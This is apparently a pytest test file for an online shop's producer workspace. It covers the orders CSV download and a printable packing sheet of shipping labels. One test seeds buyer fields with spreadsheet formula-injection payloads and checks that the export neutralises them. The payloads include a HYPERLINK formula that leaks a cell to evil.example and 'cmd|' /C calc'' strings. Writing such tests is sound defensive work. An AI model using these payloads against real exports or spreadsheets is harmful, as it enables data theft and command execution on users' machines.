"""The orders CSV download and the packing sheet, through the producer's workspace, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
import time
import tracemalloc
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from storefront.extensions import db
from storefront.models import FulfilmentStatus, Order, OrderStatus, RefundStatus
from storefront.producer import exports as export_views
from storefront.unit_of_work import write_transaction
from tests.export_data import StatementCounter, place_order, refund_units, sell_in_bulk
from tests.factories import make_release

ON_SALE = datetime(2026, 7, 1, 10, 0, tzinfo=UTC)
BOM = "\ufeff"


def at(hours: float) -> datetime:
    return ON_SALE + timedelta(hours=hours)


def csv_rows(response) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[len(BOM) :])))


@pytest.fixture
def shop(session):
    """A release with a few orders: two paid (one of two units), a shipped one, and one refunded."""
    with write_transaction(session):
        release = make_release(session, units=240, price=8900, on_sale_at=ON_SALE)
        other = make_release(session, units=50, price=4500, on_sale_at=ON_SALE)
        orders = {
            "aoife": place_order(
                session, release, [17, 18], placed_at=at(1), email="aoife@example.ie", name="Aoife Ní Bhriain"
            ),
            "ben": place_order(
                session,
                release,
                [3],
                placed_at=at(26),
                email="ben@example.com",
                name="Ben Okafor",
                fulfilment=FulfilmentStatus.SHIPPED,
            ),
            "cara": place_order(session, other, [1], placed_at=at(2), email="cara@example.com", name="Cara Lynch"),
            "dan": place_order(
                session,
                release,
                [40],
                placed_at=at(3),
                email="dan@example.com",
                name="Dan Roe",
                status=OrderStatus.REFUNDED,
            ),
        }
        refund_units(session, orders["dan"], [40], at=at(4), return_to_sale=[40])
    return release, other, orders


# --- The CSV -------------------------------------------------------------------------------------------------------


def test_the_csv_download(producer_client, shop, clock):
    release, _other, orders = shop
    clock.set(datetime(2026, 7, 3, 23, 30, tzinfo=UTC))  # already 4 July in Dublin
    response = producer_client.get("/producer/orders.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="orders-2026-07-04.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    assert response.get_data().startswith(b"\xef\xbb\xbf")
    rows = csv_rows(response)
    assert list(rows[0])[:4] == ["Order reference", "Placed at (UTC)", "Placed at (Europe/Dublin)", "Release"]
    assert [(row["Order reference"], row["Number"], row["Unit status"]) for row in rows] == [
        (orders["aoife"].reference, "17", "paid"),
        (orders["aoife"].reference, "18", "paid"),
        (orders["cara"].reference, "1", "paid"),
        (orders["dan"].reference, "40", "returned to sale"),
        (orders["ben"].reference, "3", "shipped"),
    ]
    first = rows[0]
    assert first["Number of run"] == "No. 17 of 240" and first["Batch code"] == release.batch.code
    assert first["Shipping name"] == "Aoife Ní Bhriain"
    assert (first["Unit price"], first["Currency"], first["Order total"]) == ("89.00", "EUR", "178.00")
    assert rows[3]["Amount refunded"] == "89.00" and rows[3]["Order status"] == "refunded"


def test_the_csv_follows_the_orders_filter(producer_client, shop):
    release, other, orders = shop

    def references(query: str) -> list[str]:
        response = producer_client.get(f"/producer/orders.csv?{query}")
        assert response.status_code == 200, response.get_data(as_text=True)
        return [row["Order reference"] for row in csv_rows(response)]

    assert references(f"release={other.id}") == [orders["cara"].reference]
    assert references("status=shipped") == [orders["ben"].reference]
    assert references("status=refunded") == [orders["dan"].reference]
    assert references("q=aoife") == [orders["aoife"].reference] * 2
    assert references(f"release={release.id}&q=No.+3") == [orders["ben"].reference]
    assert references("placed_from=2026-07-02&placed_to=2026-07-02") == [orders["ben"].reference]
    assert references("release=&status=&q=") == references("")


@pytest.mark.parametrize(
    ("query", "problem"),
    [
        ("placed_from=yesterday", "Placed from"),
        ("status=lost", "Status"),
        ("release=cask", "Release"),
        ("placed_from=2026-07-05&placed_to=2026-07-01", "the end date is before the start date"),
    ],
)
def test_a_bad_filter_is_a_400_page_naming_the_problem(producer_client, shop, query, problem):
    response = producer_client.get(f"/producer/orders.csv?{query}")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert "Content-Disposition" not in response.headers
    assert problem in response.get_data(as_text=True)


def test_formulas_in_buyer_data_reach_the_spreadsheet_as_text(producer_client, session):
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bottle")'
    with write_transaction(session):
        release = make_release(session, units=10, on_sale_at=ON_SALE)
        place_order(
            session,
            release,
            [1],
            placed_at=at(1),
            email="@evil.example",
            name=hyperlink,
            address={
                "line1": "+1 Cmd|' /C calc'!A0",
                "line2": "-2+3+cmd|' /C calc'!A0",
                "city": "@SUM(1+1)*cmd",
                "postal_code": "\t=1+1",
                "country": "IE",
            },
        )
    row = csv_rows(producer_client.get("/producer/orders.csv"))[0]
    assert row["Shipping name"] == "'" + hyperlink
    assert row["Address line 1"] == "'+1 Cmd|' /C calc'!A0"
    assert row["Address line 2"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["City"] == "'@SUM(1+1)*cmd"
    assert row["Postal code"] == "'=1+1"  # stripped of its tab, still a formula: neutralised
    assert row["Buyer email"] == "'@evil.example"
    # Nothing else in the file starts a cell with a formula character.
    text = producer_client.get("/producer/orders.csv").get_data(as_text=True)
    cells = [cell for line in csv.reader(io.StringIO(text[1:])) for cell in line]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def open_connections() -> int:
    """Connections checked out of the app's pool right now."""
    return db.engine.pool.checkedout()


def test_the_stream_gives_its_connection_back_when_done_and_when_the_client_goes_away(
    producer_client, session, monkeypatch
):
    with write_transaction(session):
        release = make_release(session, units=400, on_sale_at=ON_SALE)
        sell_in_bulk(session, release, orders=200, units_per_order=2, first_placed_at=at(1))
    monkeypatch.setattr(export_views, "CSV_CHUNK_CHARACTERS", 2000)  # many chunks from a few hundred rows
    session.commit()
    assert open_connections() == 0

    # The test client reads the first chunk before it returns (as a server starts sending): the export's
    # connection is the only one out, the request's own read has ended.
    response = producer_client.get("/producer/orders.csv", buffered=False)
    chunks = iter(response.response)
    assert next(chunks).startswith(b"\xef\xbb\xbf")
    assert open_connections() == 1
    next(chunks)
    assert open_connections() == 1
    # The client hangs up half-way: the server closes the response, the cursor and the session close with it.
    response.close()
    assert open_connections() == 0

    response = producer_client.get("/producer/orders.csv", buffered=False)
    body = b"".join(response.response)
    response.close()
    assert open_connections() == 0
    assert body.count(b"\r\n") == 401


def test_a_writer_is_not_blocked_by_a_download_in_progress(producer_client, session, monkeypatch, backend):
    with write_transaction(session):
        release = make_release(session, units=400, on_sale_at=ON_SALE)
        sell_in_bulk(session, release, orders=200, units_per_order=2, first_placed_at=at(1))
    monkeypatch.setattr(export_views, "CSV_CHUNK_CHARACTERS", 2000)
    response = producer_client.get("/producer/orders.csv", buffered=False)
    chunks = iter(response.response)
    next(chunks)
    next(chunks)
    started = time.monotonic()
    with write_transaction(session):
        session.execute(sa.update(Order).values(carrier="An Post"))
    assert time.monotonic() - started < 2, "the write waited for the export's read"
    rest = b"".join(chunks)
    response.close()
    assert rest and open_connections() == 0


@pytest.mark.slow
def test_streaming_100000_units_keeps_memory_flat(producer_client, session, backend):
    with write_transaction(session):
        small = make_release(session, units=10_000, on_sale_at=ON_SALE)
        large = make_release(session, units=100_000, on_sale_at=ON_SALE)
        sell_in_bulk(session, small, orders=2_000, units_per_order=5, first_placed_at=at(1))
        sell_in_bulk(session, large, orders=20_000, units_per_order=5, first_placed_at=at(2))
    cursors = []

    def note_cursor(_conn, cursor, statement, _parameters, _context, _executemany):
        if "sold_unit" in statement:
            cursors.append(type(cursor).__name__)

    sa.event.listen(db.engine, "before_cursor_execute", note_cursor)
    try:
        small_rows, small_peak = stream_measured(producer_client, f"/producer/orders.csv?release={small.id}")
        large_rows, large_peak = stream_measured(producer_client, f"/producer/orders.csv?release={large.id}")
    finally:
        sa.event.remove(db.engine, "before_cursor_execute", note_cursor)
    assert (small_rows, large_rows) == (10_000, 100_000)
    print(f"peak while streaming: {small_peak / 1e6:.2f} MB for 10,000 rows, {large_peak / 1e6:.2f} MB for 100,000")
    assert large_peak < 10 * 1024 * 1024, f"streaming 100,000 rows peaked at {large_peak / 1e6:.1f} MB"
    # Ten times the rows must not take anything like ten times the memory.
    assert large_peak < 2 * small_peak + 1024 * 1024, (small_peak, large_peak)
    if backend == "postgresql":
        assert cursors == ["ServerCursor", "ServerCursor"], "the export must read through a server-side cursor"


def stream_measured(client, url: str) -> tuple[int, int]:
    """Stream the download chunk by chunk, keeping nothing; return its data rows and the peak memory it took."""
    response = client.get(url, buffered=False)
    assert response.status_code == 200
    tracemalloc.start()
    try:
        start, _ = tracemalloc.get_traced_memory()
        lines = 0
        for chunk in response.response:
            lines += chunk.count(b"\r\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        response.close()
    return lines - 1, peak - start


# --- The packing sheet ------------------------------------------------------------------------------------------------


def label_numbers(page: str) -> list[str]:
    return re.findall(r'<p class="label__number">No\. (\d+) <span class="label__of">of \d+</span></p>', page)


def test_the_packing_sheet_has_a_label_per_unit_to_ship(producer_client, shop):
    release, _other, orders = shop
    response = producer_client.get("/producer/orders/packing-sheet")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    # Shipped (Ben) and refunded (Dan) orders have no label by default.
    assert label_numbers(page) == ["17", "18", "1"]
    assert orders["aoife"].reference in page and orders["ben"].reference not in page
    assert "Aoife Ní Bhriain" in page and "D02 XY45" in page
    assert release.batch.code in page and release.title in page
    assert 'class="label-sheets label-sheets--a4"' in page
    assert re.search(r'<link rel="stylesheet" href="/static/css/print\.css\?v=[0-9a-f]+">', page)
    assert re.search(r'<script src="/static/js/print\.js\?v=[0-9a-f]+" defer></script>', page)
    assert "style=" not in page and "<script>" not in page
    assert "/producer/orders.csv" in page

    with_shipped = producer_client.get("/producer/orders/packing-sheet?include_shipped=1").get_data(as_text=True)
    assert label_numbers(with_shipped) == ["17", "18", "1", "3"]
    by_status = producer_client.get("/producer/orders/packing-sheet?status=shipped").get_data(as_text=True)
    assert label_numbers(by_status) == ["3"]
    assert (
        label_numbers(producer_client.get("/producer/orders/packing-sheet?status=refunded").get_data(as_text=True))
        == []
    )


def test_paper_sizes(producer_client, shop):
    letter = producer_client.get("/producer/orders/packing-sheet?paper=letter").get_data(as_text=True)
    assert 'class="label-sheets label-sheets--letter"' in letter and "label-sheets--a4" not in letter
    assert 'value="letter" checked' in letter
    unknown = producer_client.get("/producer/orders/packing-sheet?paper=a3")
    assert unknown.status_code == 200 and 'class="label-sheets label-sheets--a4"' in unknown.get_data(as_text=True)


def test_labels_fill_sheets_of_the_paper(producer_client, session):
    with write_transaction(session):
        release = make_release(session, units=100, on_sale_at=ON_SALE)
        sell_in_bulk(session, release, orders=15, units_per_order=2, first_placed_at=at(1))
    a4 = producer_client.get("/producer/orders/packing-sheet").get_data(as_text=True)
    assert a4.count('<section class="label-sheet"') == 3  # 30 labels, 14 a sheet
    letter = producer_client.get("/producer/orders/packing-sheet?paper=letter").get_data(as_text=True)
    assert letter.count('<section class="label-sheet"') == 3  # 10 a sheet


def test_a_large_sheet_comes_in_parts(producer_client, session, monkeypatch):
    monkeypatch.setattr(export_views, "LABELS_PER_PART", 14)
    with write_transaction(session):
        release = make_release(session, units=100, on_sale_at=ON_SALE)
        sell_in_bulk(session, release, orders=15, units_per_order=2, first_placed_at=at(1))
    first = producer_client.get("/producer/orders/packing-sheet?paper=letter").get_data(as_text=True)
    assert label_numbers(first) == [str(number) for number in range(1, 15)]
    assert "This is part\n      1 of 3" in first
    assert f"release={release.id}" not in first  # no filter was asked for
    third = producer_client.get("/producer/orders/packing-sheet?paper=letter&part=3").get_data(as_text=True)
    assert label_numbers(third) == ["29", "30"]
    assert 'href="/producer/orders/packing-sheet?paper=letter&amp;part=2"' in third
    beyond = producer_client.get("/producer/orders/packing-sheet?part=99").get_data(as_text=True)
    assert label_numbers(beyond) == ["29", "30"]


def test_the_packing_sheet_costs_the_same_statements_for_3_or_300_labels(producer_client, session):
    with write_transaction(session):
        release = make_release(session, units=400, on_sale_at=ON_SALE)
        sell_in_bulk(session, release, orders=3, units_per_order=1, first_placed_at=at(1))
    with StatementCounter(db.engine) as few:
        assert len(label_numbers(producer_client.get("/producer/orders/packing-sheet").get_data(as_text=True))) == 3
    with write_transaction(session):
        big = make_release(session, units=400, on_sale_at=ON_SALE)
        sell_in_bulk(session, big, orders=99, units_per_order=3, first_placed_at=at(2))
    with StatementCounter(db.engine) as many:
        assert len(label_numbers(producer_client.get("/producer/orders/packing-sheet").get_data(as_text=True))) == 300
    selects = [statement for statement in many.statements if statement.lstrip().startswith("SELECT")]
    assert len(selects) == len([s for s in few.statements if s.lstrip().startswith("SELECT")])
    assert len(selects) <= 5, selects


def test_the_packing_sheet_refuses_a_bad_filter(producer_client, shop):
    response = producer_client.get("/producer/orders/packing-sheet?placed_to=31/12/2026")
    assert response.status_code == 400
    assert "Placed to" in response.get_data(as_text=True)


def test_a_partly_refunded_order_gets_labels_for_what_it_still_ships(producer_client, session):
    with write_transaction(session):
        release = make_release(session, units=20, on_sale_at=ON_SALE)
        order = place_order(session, release, [4, 5, 6], placed_at=at(1))
        refund_units(session, order, [5], at=at(2), return_to_sale=[5])
        other = place_order(session, release, [7, 8], placed_at=at(1))
        refund_units(session, other, [7], at=at(2), status=RefundStatus.PENDING)
        session.get(Order, other.id).status = OrderStatus.REFUNDING
    page = producer_client.get("/producer/orders/packing-sheet").get_data(as_text=True)
    assert label_numbers(page) == ["4", "6"]


def test_the_packing_sheet_carries_its_filter_into_its_links(producer_client, shop):
    release, _other, orders = shop
    page = producer_client.get(f"/producer/orders/packing-sheet?release={release.id}&q=aoife&paper=letter")
    text = page.get_data(as_text=True)
    assert label_numbers(text) == ["17", "18"]
    assert f"for orders with release {release.batch.title}: {release.title}, matching “aoife”" in text
    assert f'href="/producer/orders.csv?release={release.id}&amp;q=aoife"' in text
    assert f'href="/producer/orders?release={release.id}&amp;q=aoife"' in text
    assert f'<input type="hidden" name="release" value="{release.id}">' in text
    assert '<input type="hidden" name="q" value="aoife">' in text
